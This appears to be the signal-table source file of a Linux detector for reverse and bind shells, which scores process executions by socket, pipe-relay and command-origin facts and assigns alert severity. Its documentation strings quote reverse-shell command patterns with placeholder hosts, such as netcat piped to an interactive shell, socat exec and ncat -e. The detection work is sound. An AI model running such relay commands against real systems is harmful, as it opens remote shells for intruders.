/* signals.c: the signal table (include/signals.h) and the severity that follows from it. Each row:
 * the bit, the name alerts show, what kind of fact it is, the predicate that decides it for one
 * exec, and the line docs/run.md shows. Rows are in the order alerts list them; the network rows
 * come most direct first, and the first one that shows a side (stdin, stdout) gives that side's
 * connection and the alert's remote end. */
#include <string.h>
#include <sys/socket.h>
#include "cmdsrc.h"
#include "interp.h"
#include "judge_priv.h"

struct signal_def {
	uint32_t bit;
	const char *name;
	enum sig_strength strength;
	bool (*fires)(struct verdict *v);
	const char *doc;
};

static void offer(struct verdict *v, const struct sw_fd *peer)
{
	if (peer && !v->peer)
		v->peer = peer;
}

/* Side path of v gets (via, sock, flags of sock as holder sees it) unless a stronger row set it. */
static bool show(struct verdict *v, struct net_path *path, uint32_t via, const struct proc *holder,
		 const struct sw_fd *sock)
{
	if (!sock)
		return false;
	if (!path->via)
		*path = (struct net_path){ via, sock, judge_sock_flags(v->j, holder, sock) };
	offer(v, sock);
	return true;
}

/* A kind of stdio another process can relay: a terminal, a pipe, a fifo, a socketpair. */
static bool relayable(const struct sw_fd *f)
{
	return f->kind == SW_FD_TTY || f->kind == SW_FD_PIPE || f->kind == SW_FD_FIFO ||
	       (f->kind == SW_FD_SOCK && !sw_fd_is_inet(f)) || f->kind == SW_FD_UNKNOWN;
}

static bool relayable_out(const struct proc *p)
{
	return relayable(&p->stdio[1]) || relayable(&p->stdio[2]);
}

static bool rule(struct verdict *v)
{
	return v->rule_hit;
}

static bool stdio_socket(struct verdict *v)
{
	const struct sw_fd *f = v->p->stdio;
	const struct sw_fd *out = sw_fd_is_inet(&f[1]) ? &f[1] : sw_fd_is_inet(&f[2]) ? &f[2] : NULL;
	bool in = show(v, &v->in, SIG_STDIO_SOCKET, v->p, sw_fd_is_inet(&f[0]) ? &f[0] : NULL);

	return show(v, &v->out, SIG_STDIO_SOCKET, v->p, out) || in;
}

/* The parent (or grandparent) talks to the network on its own stdio and p's stdio is a terminal
 * or pipe it can be relaying: python's pty.spawn. */
static bool parent_socket(struct verdict *v)
{
	const struct proc *h = v->pp, *gp = judge_parent(v->j, v->pp);
	const struct sw_fd *s = h ? judge_inet_stdio(h->stdio) : NULL;
	bool in, out;

	if (!s && gp && (s = judge_inet_stdio(gp->stdio)))
		h = gp;
	if (!s)
		return false;
	in = relayable(&v->p->stdio[0]) && show(v, &v->in, SIG_PARENT_SOCKET, h, s);
	out = relayable_out(v->p) && show(v, &v->out, SIG_PARENT_SOCKET, h, s);
	return in || out;
}

static bool pipe_relay(struct verdict *v)
{
	const struct proc *i = relay_in(v->j, v->p), *o = relay_out(v->j, v->p);
	bool in = i && show(v, &v->in, SIG_PIPE_RELAY, i, &judge_last_sock(i)->sock);
	bool out = o && show(v, &v->out, SIG_PIPE_RELAY, o, &judge_last_sock(o)->sock);

	return in && out;
}

/* The parent holds a connection it made or accepted, off its stdio, and p's stdio is a pipe or
 * terminal it can be relaying: socat exec, ncat -e, node's spawn, a login under sshd. */
static bool holds_socket(struct verdict *v)
{
	const struct proc_sock *s = judge_last_sock(v->pp);
	bool in, out;

	if (!s)
		return false;
	in = relayable(&v->p->stdio[0]) && show(v, &v->in, SIG_HOLDS_SOCKET, v->pp, &s->sock);
	out = relayable_out(v->p) && show(v, &v->out, SIG_HOLDS_SOCKET, v->pp, &s->sock);
	return in && out;
}

/* The command line is what arrived on a connection just before, verbatim: whatever loop runs it
 * (popen, system, a coprocess), commands come off the wire. Not when the receiver is a sanctioned
 * server. */
static bool cmd_from_net(struct verdict *v)
{
	const struct proc *rx = v->p->cmd_from_net == 2 ? v->pp : v->p;

	const struct proc_sock *s = judge_last_sock(rx);

	if (!v->p->cmd_from_net)
		return false;
	if (rx && policy_sanctioned(v->j->policy, rx->exe))
		return false;
	if (s)
		show(v, &v->in, SIG_CMD_FROM_NET, rx, &s->sock);
	return true;
}

static bool interpreter(struct verdict *v)
{
	return v->p->interp != INTERP_NONE;
}

static bool cmd_stdin(struct verdict *v)
{
	return v->p->cmdsrc == CMDSRC_STDIN;
}

static bool score(struct verdict *v)
{
	return signals_score(v->j, v->p->score, -1) & SIG_SCORE;
}

static bool parent_score(struct verdict *v)
{
	return signals_score(v->j, -1, judge_ancestor_score(v->j, v->p)) & SIG_PARENT_SCORE;
}

static bool anomaly(struct verdict *v)
{
	return v->p->anomaly;
}

static bool parent_anomaly(struct verdict *v)
{
	const struct proc *gp = judge_parent(v->j, v->pp);

	return (v->pp && v->pp->anomaly) || (gp && gp->anomaly);
}

static const struct signal_def table[] = {
	{ SIG_RULE, "rule", SIG_PATTERN, rule,
	  "a rule (docs/rules.md; built-in: bind and reverse shell) matched the process stream; a "
	  "child starts with its parent's recent events, so a connect in `python` and the exec of "
	  "`sh` in its child are one episode" },
	{ SIG_STDIO_SOCKET, "stdio-socket", SIG_NETWORK, stdio_socket,
	  "an inet/inet6 socket is on fd 0 (stdin side) or fd 1/2 (output side) of the new program "
	  "(live: read from the task's fd table at the exec, whatever put it there: dup2, dup3, "
	  "fcntl, io_uring, close+socket)" },
	{ SIG_PARENT_SOCKET, "parent-stdio-socket", SIG_NETWORK, parent_socket,
	  "the parent or grandparent has an inet socket on its stdio and the new program's stdio is "
	  "a terminal or pipe it can relay: `python pty.spawn`" },
	{ SIG_PIPE_RELAY, "pipe-relay", SIG_NETWORK, pipe_relay,
	  "stdin is fed, and stdout or stderr read, through pipes or fifos by processes holding inet "
	  "connections, directly or through one filter: `sh -i < f | nc H P > f`, `nc H P | sh | nc "
	  "H P2`, openssl relays, whatever the programs are called" },
	{ SIG_HOLDS_SOCKET, "parent-holds-socket", SIG_NETWORK, holds_socket,
	  "the parent holds an inet connection it made or accepted, and the new program's stdin and "
	  "stdout are pipes or a terminal it can relay: socat exec, ncat -e, node's spawn" },
	{ SIG_CMD_FROM_NET, "command-from-network", SIG_NETWORK, cmd_from_net,
	  "the command line is, verbatim, the start of what the process or its parent (the thread "
	  "that forked it) last received on an inet socket, within 10 s: popen, system or a "
	  "coprocess loop running commands off the wire (live capture on Linux 6.3+; docs/live.md)" },
	{ SIG_INTERPRETER, "interpreter", SIG_IDENTITY, interpreter,
	  "the program is a command interpreter: a shell or python, perl, ruby, php, node, lua, tcl, "
	  "awk, by its inode or ELF build-id (a renamed copy is still one), else by name" },
	{ SIG_CMD_STDIN, "commands-from-stdin", SIG_IDENTITY, cmd_stdin,
	  "it takes its commands from stdin (no script operand, -i, -s, `-`), by its own argument "
	  "rules: a script file or a -c string with a connection on stdin reads data, not commands" },
	{ SIG_SCORE, "score", SIG_SUSPECTS, score,
	  "the command line scores at or above the threshold (docs/scoring.md)" },
	{ SIG_PARENT_SCORE, "parent-score", SIG_SUSPECTS, parent_score,
	  "the parent's or grandparent's command line did" },
	{ SIG_ANOMALY, "anomaly", SIG_SUSPECTS, anomaly,
	  "the command line is an outlier of its group (python, perl, ruby, php, node, awk, lua, "
	  "tcl, shell -c) in this host's baseline (`--baseline`, docs/baseline.md): unlike what "
	  "that interpreter runs here" },
	{ SIG_PARENT_ANOMALY, "parent-anomaly", SIG_SUSPECTS, parent_anomaly,
	  "the parent's or grandparent's command line was such an outlier (`python3 -c ...` that "
	  "runs `/bin/sh` on its socket: the shell's alert says so)" },
};
#define NSIG (sizeof(table) / sizeof(table[0]))

uint32_t signals_score(const struct judge *j, double s, double ps)
{
	if (!j->o.model)
		return 0;
	return (s >= 0 && s >= j->o.threshold ? SIG_SCORE : 0) |
	       (ps >= 0 && ps >= j->o.threshold ? SIG_PARENT_SCORE : 0);
}

uint32_t signals_judge(struct verdict *v)
{
	uint32_t sig = 0;

	for (size_t i = 0; i < NSIG; i++)
		if (table[i].fires(v))
			sig |= table[i].bit;
	return sig;
}

static bool live(const struct net_path *p)
{
	return p->via && !(p->flags & PSOCK_SANCTIONED);
}

enum direction signals_direction(const struct verdict *v)
{
	uint32_t f = (v->in.via ? v->in.flags : 0) | (v->out.via ? v->out.flags : 0);

	return f & PSOCK_OUTBOUND ? DIR_OUTBOUND : f & PSOCK_INBOUND ? DIR_INBOUND : DIR_UNKNOWN;
}

/* high: an interpreter taking its commands from stdin, with stdin and output both reaching a
 * connection no sanctioned server holds, or one of them with a rule's episode ending in it; or a
 * command line that came off the wire;
 * medium: a program on an outbound connection as its own stdin and stdout (an unknown binary, or
 * an interpreter running its own code), or a reverse-shell rule with one side on an outbound
 * connection, or an anomaly with a network fact of the exec; low: the score or the anomaly alone.
 * A rule alone says nothing: partial matches are inherited down a tree, and only the facts of the
 * exec say whether its stdio is the network. An anomaly raises what the network facts say by one
 * level, never to high on its own. */
enum severity signals_severity(const struct verdict *v, uint32_t sig)
{
	bool cmds = (sig & SIG_INTERPRETER) && (sig & SIG_CMD_STDIN);
	bool in = live(&v->in), out = live(&v->out);
	bool direct = v->in.via == SIG_STDIO_SOCKET && v->out.via == SIG_STDIO_SOCKET;
	bool outbound = signals_direction(v) == DIR_OUTBOUND;
	bool rule = sig & SIG_RULE;

	if (cmds && ((in && out) || (rule && (in || out))))
		return SEV_HIGH;
	if (sig & SIG_CMD_FROM_NET)
		return SEV_HIGH;
	if (direct && in && out && outbound)
		return SEV_MEDIUM;
	if (rule && !v->rule_inbound && (in || out) && outbound)
		return SEV_MEDIUM;
	if (sig & SIG_ANOMALY)
		return in || out ? SEV_MEDIUM : SEV_LOW;
	return sig & SIG_SCORE ? SEV_LOW : SEV_NONE;
}

const char *signal_name(uint32_t bit)
{
	for (size_t i = 0; i < NSIG; i++)
		if (table[i].bit == bit)
			return table[i].name;
	return NULL;
}

void signals_each(uint32_t signals, void (*fn)(void *ctx, const char *name), void *ctx)
{
	for (size_t i = 0; i < NSIG; i++)
		if (signals & table[i].bit)
			fn(ctx, table[i].name);
}

struct strbuf {
	char *buf;
	size_t len, n;
};

static void append_name(void *ctx, const char *name)
{
	struct strbuf *b = ctx;

	if (b->n < b->len)
		b->n += (size_t)snprintf(b->buf + b->n, b->len - b->n, "%s%s", b->n ? "," : "", name);
}

void signals_str(uint32_t signals, char *buf, size_t len)
{
	struct strbuf b = { buf, len, 0 };

	if (len)
		buf[0] = '\0';
	signals_each(signals, append_name, &b);
}

void signals_doc(FILE *f)
{
	static const char *const kind[] = { "network", "identity", "suspects", "pattern" };

	for (size_t i = 0; i < NSIG; i++) {
		fprintf(f, "| `%s` | ", table[i].name);
		for (const char *c = table[i].doc; *c; c++)
			fprintf(f, *c == '|' ? "\\|" : "%c", *c);   /* a cell of a markdown table */
		fprintf(f, " | %s |\n", kind[table[i].strength]);
	}
}
